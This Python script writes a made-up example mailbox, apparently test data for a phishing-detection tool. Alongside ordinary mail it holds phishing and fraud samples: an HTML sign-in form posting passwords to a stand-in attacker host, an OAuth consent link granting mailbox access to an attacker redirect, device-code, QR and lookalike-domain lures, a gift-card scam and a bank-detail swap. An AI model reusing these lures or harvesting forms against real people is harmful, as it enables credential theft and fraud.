# ruff: noqa: E501 (a text stands on one line)
"""Writes the example mailbox, always the same bytes: `python examples/make.py [FOLDER]`. Everything in it is made up."""

from __future__ import annotations

import base64
import html
import struct
import sys
import zlib
from collections.abc import Sequence
from dataclasses import dataclass, replace
from datetime import UTC, datetime, timedelta
from email.header import Header
from pathlib import Path

DANA = "Dana Osman <dana@harbour.example>"
SAMI = "Sami Haddad <sami@harbour.example>"
LEILA = "Leila Navab <leila@harbour.example>"
TIPS = "tips@harbour.example"
MIRA = "Mira Castell <mira.castell@lighthouse.example>"
PRINT = "Pier Print Shop <accounts@pierprint.example>"
START = datetime(2026, 1, 12, 8, 0, tzinfo=UTC)
_DAYS = "Mon Tue Wed Thu Fri Sat Sun".split()
_MONTHS = "Jan Feb Mar Apr May Jun Jul Aug Sep Oct Nov Dec".split()
# The QR code of https://quaymail.sign-in.test/r/dana: a row of 29 modules each, the first module in the highest bit.
_QR = """
1fd74c7f 10461641 1744bd5d 1757765d 1754fd5d 1052cb41 1fd5557f 00174b00 117bedf9 16253c7f
1877e501 0b8bbb7b 13548ba2 052af07f 1b723dcd 0c0e6863 1371c982 1508347b 0355ed85 01ab8e43
1fd7abf9 001ce111 1fdb335d 10495f13 175adbfa 1748b2a1 174aaf8f 1040090b 1fda2f12
""".split()


@dataclass(frozen=True)
class File:
    """An attachment."""

    name: str
    media_type: str
    data: bytes


@dataclass(frozen=True)
class Mail:
    """A message of the example. `day` and `hour` count from START; `proof` is what SPF, DKIM and DMARC came to."""

    id: str
    day: int
    hour: float
    sender: str
    to: str
    subject: str
    text: str
    proof: str = "pass"
    link: tuple[str, str] | None = None
    reply_to: str = ""
    answers: tuple[str, ...] = ()
    list_of: str = ""
    files: tuple[File, ...] = ()
    inline_image: bytes = b""

    @property
    def address(self) -> str:
        """The sender's address."""
        return self.sender.rpartition("<")[2].rstrip(">")

    @property
    def domain(self) -> str:
        """The domain of it."""
        return self.address.rpartition("@")[2]

    @property
    def time(self) -> datetime:
        """When it was sent, and arrived."""
        return START + timedelta(days=self.day, hours=self.hour)

    @property
    def message_id(self) -> str:
        """Its Message-ID."""
        return f"<{self.id}.{self.time:%Y%m%d%H%M}@{self.domain}>"


def to_bytes(mail: Mail, mails: dict[str, Mail]) -> bytes:
    """Return the message as it lies in the mailbox."""
    lines = [*_trace(mail), f"From: {_mailbox(mail.sender)}", f"To: {_mailbox(mail.to)}"]
    lines += [f"Subject: {_words(mail.subject)}", f"Date: {_date(mail.time)}", f"Message-ID: {mail.message_id}"]
    lines += [f"Reply-To: {_mailbox(mail.reply_to)}"] * bool(mail.reply_to)
    if mail.answers:
        ids = [mails[name].message_id for name in mail.answers]
        lines += [f"In-Reply-To: {ids[-1]}", f"References: {' '.join(ids)}"]
    if mail.list_of:
        lines += [f"List-Id: <news.{mail.domain}>", f"List-Unsubscribe: <https://{mail.domain}/unsubscribe>"]
        lines += ["List-Unsubscribe-Post: List-Unsubscribe=One-Click", "Precedence: bulk"]
    lines += ["MIME-Version: 1.0", _body(mail)]
    return ("\n".join(lines).rstrip("\n") + "\n").encode()


def _trace(mail: Mail) -> list[str]:
    if mail.domain == "harbour.example":
        return [
            f"Received: from laptop.harbour.example (10.0.0.7) by mx.harbour.example with ESMTPSA; {_date(mail.time)}"
        ]
    host = f"mail.{mail.domain}"
    stamp = f"Received: from {host} ({host} [192.0.2.{10 + len(mail.domain) % 200}]) by mx.harbour.example with ESMTPS; {_date(mail.time)}"
    spf, dkim, dmarc = {
        "pass": ("pass", "pass", "pass"),
        "none": ("none", "none", "none"),
        "fail": ("softfail", "none", "fail"),
    }[mail.proof]
    results = [
        "Authentication-Results: mx.harbour.example;",
        f" spf={spf} smtp.mailfrom={mail.address};",
        f" dkim={dkim}" + f" header.d={mail.domain};" * (dkim == "pass") + ";" * (dkim != "pass"),
        f" dmarc={dmarc} header.from={mail.domain}",
    ]
    return [f"Return-Path: <{mail.address}>", "\n".join(results), stamp]


def _body(mail: Mail) -> str:
    parts = [_part("text/plain; charset=utf-8", _plain(mail).encode())]
    if mail.link or mail.inline_image or mail.list_of:
        parts.append(_part("text/html; charset=utf-8", _page(mail).encode()))
    body = parts[0] if len(parts) == 1 else _joined("alternative", "a1", parts)
    extra = [_part(f'{file.media_type}; name="{_words(file.name)}"', file.data, file.name) for file in mail.files]
    if mail.inline_image:
        extra.append(_part("image/png", mail.inline_image, "code.png", "Content-ID: <code@mail>\n"))
    return _joined("mixed", "m1", [body, *extra]) if extra else body


def _plain(mail: Mail) -> str:
    return mail.text + (f"\n\n{mail.link[0]}: {mail.link[1]}" if mail.link else "") + "\n"


def _page(mail: Mail) -> str:
    paragraphs = "".join(f"<p>{html.escape(part)}</p>\n" for part in mail.text.split("\n\n"))
    if mail.link:
        paragraphs += f'<p><a href="{html.escape(mail.link[1])}">{html.escape(mail.link[0])}</a></p>\n'
    if mail.inline_image:
        paragraphs += '<p><img src="cid:code@mail" alt="" width="185" height="185"></p>\n'
    if mail.list_of:
        paragraphs += (
            f'<p>{html.escape(mail.list_of)} <a href="https://{mail.domain}/unsubscribe">Unsubscribe</a></p>\n'
        )
    direction = ' dir="rtl"' if "\u0600" <= mail.text[0] <= "\u06ff" else ""
    return f"<!doctype html>\n<html><body{direction}>\n{paragraphs}</body></html>\n"


def _part(content_type: str, data: bytes, filename: str = "", extra: str = "") -> str:
    head = f"Content-Type: {content_type}\n{extra}"
    if filename:
        kind = "inline" if extra else "attachment"
        head += f'Content-Disposition: {kind}; filename="{_words(filename)}"\n'
    if data.isascii() and not filename:
        return f"{head}Content-Transfer-Encoding: 7bit\n\n{data.decode()}"
    return f"{head}Content-Transfer-Encoding: base64\n\n{base64.encodebytes(data).decode()}"


def _joined(kind: str, boundary: str, parts: Sequence[str]) -> str:
    inner = "".join(f"--{boundary}\n{part}\n" for part in parts)
    return f'Content-Type: multipart/{kind}; boundary="{boundary}"\n\n{inner}--{boundary}--\n'


def _date(when: datetime) -> str:
    return f"{_DAYS[when.weekday()]}, {when.day:02} {_MONTHS[when.month - 1]} {when:%Y %H:%M:%S} +0000"


def _words(text: str) -> str:
    return text if text.isascii() else Header(text, "utf-8", maxlinelen=10_000).encode()


def _mailbox(text: str) -> str:
    name, mark, address = text.rpartition("<")
    return f"{_words(name.strip())} <{address}" if mark else text


def qr_image(scale: int = 5, quiet: int = 4) -> bytes:
    """Return the QR code as a grey PNG; its data are stored, not packed, so that every zlib writes the same bytes."""
    size = (29 + 2 * quiet) * scale
    rows = [[0] * 29] * quiet + [[int(row, 16) >> (28 - n) & 1 for n in range(29)] for row in _QR] + [[0] * 29] * quiet
    lines = bytearray()
    for row in rows:
        pixels = b"".join((b"\x00" if dark else b"\xff") * scale for dark in [0] * quiet + list(row) + [0] * quiet)
        lines += (b"\x00" + pixels) * scale
    header = struct.pack(">IIBBBBB", size, size, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", _stored(bytes(lines))) + _chunk(b"IEND", b"")
    )


def _stored(data: bytes) -> bytes:
    """zlib (RFC 1950) of stored blocks (RFC 1951, section 3.2.4)."""
    blocks = [data[start : start + 65_535] for start in range(0, len(data), 65_535)]
    packed = b"".join(
        struct.pack("<BHH", number == len(blocks) - 1, len(block), len(block) ^ 0xFFFF) + block
        for number, block in enumerate(blocks)
    )
    return b"\x78\x01" + packed + struct.pack(">I", zlib.adler32(data))


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def locked_zip(name: str) -> bytes:
    """Return a ZIP whose one entry is marked as encrypted (APPNOTE 4.4.4, bit 0). There is nothing in it."""
    data = bytes(range(64))
    common = struct.pack("<HHHHHIIIHH", 20, 1, 0, 0, 0x5C4F, 0, len(data), len(data), len(name), 0)
    local = b"PK\x03\x04" + common + name.encode() + data
    central = b"PK\x01\x02" + struct.pack("<H", 20) + common + struct.pack("<HHHII", 0, 0, 0, 0, 0) + name.encode()
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(central), len(local), 0)
    return local + central + end


HARVESTER = b"""<!doctype html><html><body><h1>Quaymail</h1><p>Your session has expired. Sign in to read the document.</p>
<form action="https://collect.attacker.test/in" method="post"><input name="user" value="dana@harbour.example">
<input type="password" name="pass"><button>Sign in</button></form></body></html>
"""

INBOX = (
    Mail("list1", 0, 1, "Coastal Briefing <news@coastalbriefing.example>", DANA, "Coastal Briefing: the week in the bay",
         "Good morning.\n\nThe ferry timetable for spring is out, the council has put the quay lighting on its agenda, and the museum opens its new room on Friday.\n\nHave a good week.",
         list_of="You get this because you subscribed.", link=("Read the issue on our site", "https://coastalbriefing.example/issues/41")),
    Mail("mira1", 1, 2, MIRA, DANA, "Round table on coastal towns, 19 February",
         "Dear Dana,\n\nthank you for taking part in our round table on 19 February. We start at ten in the small hall; about fifteen people will come. Is there anything you need on the table, a projector perhaps?\n\nKind regards\nMira"),
    Mail("dana1", 1, 3, DANA, MIRA, "Re: Round table on coastal towns, 19 February",
         "Dear Mira,\n\nno projector, thank you. I will bring two pages on paper. Could Sami come along?\n\nDana", answers=("mira1",)),
    Mail("mira2", 1, 6, MIRA, DANA, "Re: Round table on coastal towns, 19 February",
         "Of course, Sami is welcome. I put him on the list.\n\nMira", answers=("mira1", "dana1")),
    Mail("bill1", 3, 2, PRINT, DANA, "Invoice 2026-014 for your leaflets",
         "Dear Ms Osman,\n\nplease find our invoice for the 5,000 leaflets of December. The terms are as always, thirty days, to the account you know.\n\nWith best wishes\nPier Print Shop",
         files=(File("invoice-2026-014.txt", "text/plain", b"Invoice 2026-014\n5,000 leaflets, A5\nThank you.\n"),)),
    Mail("sami1", 4, 1, SAMI, DANA, "جدول الأسبوع", "صباح الخير دانا،\n\nأرفقت جدول الأسبوع. الاجتماع مع المتطوعين يوم الأربعاء في الخامسة مساءً، وبعده نراجع النص معًا.\n\nسامي"),
    Mail("dana2", 4, 2, DANA, SAMI, "Re: جدول الأسبوع", "شكرًا سامي، موعد الأربعاء مناسب لي.\n\nدانا", answers=("sami1",)),
    Mail("mum1", 5, 9, "Huda Osman <huda.osman@home.example>", DANA, "Sunday", "Dana dear,\n\nare you coming on Sunday? Your aunt will be here, and I am making the fish you like. Bring the blue dish if you think of it.\n\nMum"),
    Mail("receipt1", 6, 4, "Quaymail <billing@quaymail.example>", DANA, "Your receipt for January",
         "Hello Dana,\n\nthank you. We received your payment for the team plan, five seats, for January. You find all receipts in your settings whenever you need them.\n\nQuaymail",
         link=("Open your receipts", "https://quaymail.example/settings/receipts")),
    Mail("persona1", 8, 3, "Dr. Ellen Marsh <ellen.marsh@forum-review.test>", DANA, "A conversation for the Forum Review",
         "Dear Ms Osman,\n\nI edit the interview pages of the Forum Review. Your work on coastal towns has been on my list for a long time, and I would be honoured to speak with you for our spring issue. It would take half an hour, at a time that suits you.\n\nThere is nothing to prepare for now. Would you be open to it in principle?\n\nWith kind regards\nEllen Marsh", proof="pass"),
    Mail("dana3", 8, 6, DANA, "Dr. Ellen Marsh <ellen.marsh@forum-review.test>", "Re: A conversation for the Forum Review",
         "Dear Dr Marsh,\n\nthank you, that sounds interesting. Next week would be possible.\n\nDana Osman", answers=("persona1",)),
    Mail("list2", 7, 1, "Coastal Briefing <news@coastalbriefing.example>", DANA, "Coastal Briefing: fish market moves",
         "Good morning.\n\nThe fish market moves to the north quay in March. We spoke with three of the traders about what will change for them, and what they hope for.\n\nHave a good week.",
         list_of="You get this because you subscribed.", link=("Read the issue on our site", "https://coastalbriefing.example/issues/42")),
    Mail("persona2", 12, 4, "Dr. Ellen Marsh <ellen.marsh@forum-review.test>", DANA, "Re: A conversation for the Forum Review",
         "Dear Ms Osman,\n\nwonderful. I have read your two pages from the round table in the meantime and have many questions. It may be easier to go on over Signal or WhatsApp, since our office mail is slow; is there a private number or address where I reach you?\n\nEllen Marsh", answers=("persona1", "dana3")),
    Mail("gift1", 13, 1, "Dana Osman <d.osman.office@mailbox.test>", SAMI, "هل أنت متاح الآن؟",
         "سامي،\n\nأنا في اجتماع ولا أستطيع الكلام على الهاتف. أحتاج منك شراء خمس بطاقات هدايا من المتجر الآن لضيوفنا، ثم اكشط الرمز وأرسل لي صور الأرقام في رد على هذه الرسالة. الأمر عاجل وسري، لا تخبر أحدًا، وسأعيد لك المبلغ اليوم.\n\nدانا", proof="none"),
    Mail("volunteer1", 14, 5, "Tomas Berg <tomas.berg@postbox.example>", DANA, "Can I help?",
         "Hello,\n\nI live by the old harbour and would like to help with the leaflets on Saturdays. I have a bicycle with a trailer. Whom do I talk to?\n\nTomas Berg"),
    Mail("dana4", 14, 7, DANA, "Tomas Berg <tomas.berg@postbox.example>", "Re: Can I help?", "Dear Tomas,\n\nwith pleasure. Come by on Saturday at nine; Sami will be there.\n\nDana", answers=("volunteer1",)),
    Mail("lookalike1", 16, 3, "Mira Castell <mira.castell@liqhthouse.example>", DANA, "Round table: new programme, please confirm today",
         "Dear Dana,\n\nthe programme of the round table has changed. Please sign in with your Quaymail account to see the shared document and confirm your attendance within 24 hours, otherwise your seat will be cancelled.\n\nMira",
         proof="pass", link=("https://lighthouse.example/programme", "https://lighthouse-programme.share-view.test/login?user=dana@harbour.example")),
    Mail("persona3", 20, 4, "Dr. Ellen Marsh <ellen.marsh@forum-review.test>", DANA, "Re: A conversation for the Forum Review",
         "Dear Ms Osman,\n\nhere is the room for our conversation tomorrow. It asks you to sign in with your e-mail account first, so that only invited guests can enter; please verify your account before noon.\n\nEllen Marsh",
         answers=("persona1", "dana3", "persona2"), link=("Enter the interview room", "https://meet-forum-review.sites.test/signin?email=dana@harbour.example")),
    Mail("qr1", 22, 2, "Quaymail Security <security@quaymail-notice.test>", DANA, "Action required: renew your second factor",
         "Dear user,\n\nyour second factor expires today. Scan the code with your telephone and sign in to keep access to your mailbox. Accounts that are not renewed will be suspended.\n\nQuaymail Security",
         proof="none", inline_image=qr_image()),
    Mail("bill2", 24, 2, PRINT, DANA, "Your proofs", "Dear Ms Osman,\n\nthe proofs of the poster lie ready at our counter. Please look at the blue, it came out a little darker than on the screen.\n\nPier Print Shop"),
    Mail("bill3", 27, 1, "Pier Print Shop <accounts@pierprint.example>", DANA, "Updated bank details for invoice 2026-014",
         "Dear Ms Osman,\n\nplease note that our bank details have changed because of an audit. Kindly pay invoice 2026-014 to the new account below and no longer to the old one, and send us the confirmation of the transfer today. Do not call, our telephones are being moved.\n\nIBAN XX00 0000 0000 0000 0000 00\n\nAccounts", proof="fail", reply_to="accounts <pierprint.accounts@mailbox.test>"),
    Mail("quay2", 29, 4, "Quaymail <billing@quaymail.example>", DANA, "Your receipt for February",
         "Hello Dana,\n\nthank you. We received your payment for the team plan, five seats, for February. You find all receipts in your settings whenever you need them.\n\nQuaymail",
         link=("Open your receipts", "https://quaymail.example/settings/receipts")),
    Mail("consent1", 31, 3, "Harbour IT <it-service@harbour-support.test>", DANA, "New calendar add-on for everybody: please accept",
         "Dear colleague,\n\nwe introduce a calendar add-on for the whole team. Open the page and press Accept so that the application may read your mailbox and keep the calendars in step. It takes one minute.\n\nHarbour IT",
         proof="pass", link=("Accept the permissions", "https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=11111111-2222-3333-4444-555555555555&response_type=code&scope=offline_access%20Mail.ReadWrite&redirect_uri=https%3A%2F%2Fcalendar-sync.attacker.test%2Fcb")),
    Mail("mira3", 38, 3, MIRA, DANA, "Thank you for the round table", "Dear Dana,\n\nthank you both for coming. The notes will take us another week. The photograph with the boat is for you.\n\nMira", answers=("mira1", "dana1", "mira2")),
)  # fmt: skip

SAMI_BOX = (
    Mail("order1", 2, 5, "Net and Rope <orders@netandrope.example>", SAMI, "We have received your order 20417",
         "Hello Sami Haddad,\n\nthank you for your order of two folding tables. They leave our store on Thursday. You need not do anything.\n\nNet and Rope"),
    Mail("ar1", 6, 2, "نورا سليم <noura.salim@lighthouse.example>", SAMI, "ملاحظات على المسودة", "مرحبًا سامي،\n\nقرأتُ المسودة وأعجبتني الفقرة الثانية كثيرًا. أقترح تقديم مثال الميناء القديم إلى البداية. نتحدث يوم الثلاثاء إن شئت.\n\nنورا"),
    Mail("sami2", 6, 4, SAMI, "نورا سليم <noura.salim@lighthouse.example>", "Re: ملاحظات على المسودة", "شكرًا نورا، الثلاثاء مناسب.\n\nسامي", answers=("ar1",)),
    Mail("device1", 17, 2, "Microsoft Teams Meetings <meetings@teams-invite.test>", SAMI, "You are invited: planning call",
         "You have been invited to a planning call.\n\nTo join, open https://microsoft.com/devicelogin, enter the code FQ7T9KXN2 and sign in with your work account. The code is valid for 15 minutes.", proof="pass"),
    Mail("html1", 19, 1, "Scan Station <scanner@office-copier.test>", SAMI, "Scanned document from device 4",
         "You have received a scanned document. Open the attached file in your browser and sign in to view it.", proof="none",
         files=(File("Scan_0418.html", "text/html", HARVESTER),)),
    Mail("zip1", 21, 5, "Municipal Elections Desk <desk@elections-desk.test>", SAMI, "وثائق الترشيح المعدلة",
         "تحية طيبة،\n\nتجدون في المرفق وثائق الترشيح المعدلة، ويُرجى مراجعتها اليوم. الملف محمي، وكلمة المرور لفك الضغط: 4821\n\nمكتب الانتخابات", proof="pass",
         files=(File("documents.zip", "application/zip", locked_zip("documents.pdf.lnk")),)),
    Mail("callback1", 25, 3, "Billing Department <notice7731@invoicing-center.test>", SAMI, "Invoice INV-88213: your subscription has been renewed",
         "Dear customer,\n\nyour protection plan has been renewed for 3 years and 499.99 USD will be charged to your account today. If you did not authorise this payment, call our refund department within 24 hours at +1 (202) 555-0143 to cancel.\n\nBilling Department", proof="none"),
    Mail("list3", 30, 1, "Volunteers' Forum <letter@volunteers.example>", SAMI, "The February letter",
         "Dear friends,\n\nthis month we write about first aid at street stalls, about raincoats, and about the people who bake for everybody else.", list_of="You are a member of the Volunteers' Forum.",
         link=("All letters", "https://volunteers.example/letters")),
    Mail("lottery1", 33, 6, "Claims Agent <claims.agent@winners.test>", SAMI, "CONGRATULATIONS!! YOU HAVE WON 2,500,000 USD",
         "Dear lucky winner,\n\nyour e-mail address has won the sum of 2,500,000 USD in our international lottery. To claim your prize send your full name, address, age and occupation to our agent. This is not a joke.\n\nRev. Mark Gold", proof="none", reply_to="rev.gold@winners-office.test"),
)  # fmt: skip

SINGLE = (
    Mail("tip1", 10, 11, "M <m8817@postbox.example>", TIPS, "Something you should see",
         "I work where the tenders are opened. I cannot say who I am, and please do not answer to this address after this week. The envelope for the quay was opened before the date; there are photographs. If you want to talk, use Signal, not the telephone. Please keep this between us."),
    Mail("tip2", 15, 12, "شاهد <witness.quay@postbox.example>", TIPS, "معلومات عن المناقصة", "السلام عليكم،\n\nلدي معلومات عن مناقصة الرصيف ولا أستطيع ذكر اسمي. أخشى على عملي، فأرجو ألا تذكروا هذه الرسالة لأحد. يمكننا الحديث عبر سيغنال متى شئتم."),
    Mail("fa1", 9, 4, "آرش کیانی <arash.kiani@lighthouse.example>", LEILA, "ترجمهٔ بیانیه", "لیلا جان سلام،\n\nترجمهٔ بیانیه را خوانده‌ام و چند پیشنهاد کوچک نوشته‌ام. می‌توانیم فردا دربارهٔ آن‌ها حرف بزنیم؟\n\nآرش"),
    Mail("leila1", 9, 6, LEILA, "آرش کیانی <arash.kiani@lighthouse.example>", "Re: ترجمهٔ بیانیه", "سلام آرش،\n\nبله، فردا ساعت ده خوب است. ممنونم.\n\nلیلا", answers=("fa1",)),
    Mail("fa2", 23, 3, "پشتیبانی Quaymail <support@quaymail-hesab.test>", LEILA, "حساب شما مسدود می‌شود",
         "کاربر گرامی،\n\nبه دلیل ورود غیرمجاز، حساب شما تا ۲۴ ساعت دیگر مسدود می‌شود. برای جلوگیری از مسدود شدن، روی پیوند زیر کلیک کنید و گذرواژهٔ خود را وارد کنید.", proof="none",
         link=("تأیید حساب", "http://quaymail.example.hesab-taeed.test/login?u=leila@harbour.example")),
    Mail("shared1", 34, 2, "Arash Kiani <arash.kiani@docs-share.test>", LEILA, "Arash Kiani shared \"Statement final\" with you",
         "Arash Kiani has shared a document with you. Sign in to open \"Statement final.docx\". The link expires today.", proof="none",
         link=("Open in Quaymail Docs", "https://statement-final.pages.test/quaymail/signin.html")),
)  # fmt: skip


def main(folder: Path, later: int = 0) -> None:
    """Write the mailbox below `folder`, all of it some days later than it stands here."""
    inbox, sami_box, single = (
        [replace(mail, day=mail.day + later) for mail in box] for box in (INBOX, SAMI_BOX, SINGLE)
    )
    mails = {mail.id: mail for mail in (*inbox, *sami_box, *single)}
    (folder / "sami" / "cur").mkdir(parents=True, exist_ok=True)
    ordered = sorted(inbox, key=lambda mail: mail.time)
    (folder / "dana.mbox").write_bytes(b"".join(_mbox_entry(mail, mails) for mail in ordered))
    for number, mail in enumerate(sami_box, 1):
        (folder / "sami" / "cur" / f"{number:03}.{mail.id}.mx,S").write_bytes(to_bytes(mail, mails))
    for mail in single:
        (folder / f"{mail.id}.eml").write_bytes(to_bytes(mail, mails))


def _mbox_entry(mail: Mail, mails: dict[str, Mail]) -> bytes:
    when = mail.time
    first = f"From {mail.address} {_DAYS[when.weekday()]} {_MONTHS[when.month - 1]} {when.day:2} {when:%H:%M:%S %Y}\n"
    return first.encode() + to_bytes(mail, mails).replace(b"\nFrom ", b"\n>From ") + b"\n"


if __name__ == "__main__":
    main(Path(sys.argv[1]) if len(sys.argv) > 1 else Path(__file__).parent / "mailbox")
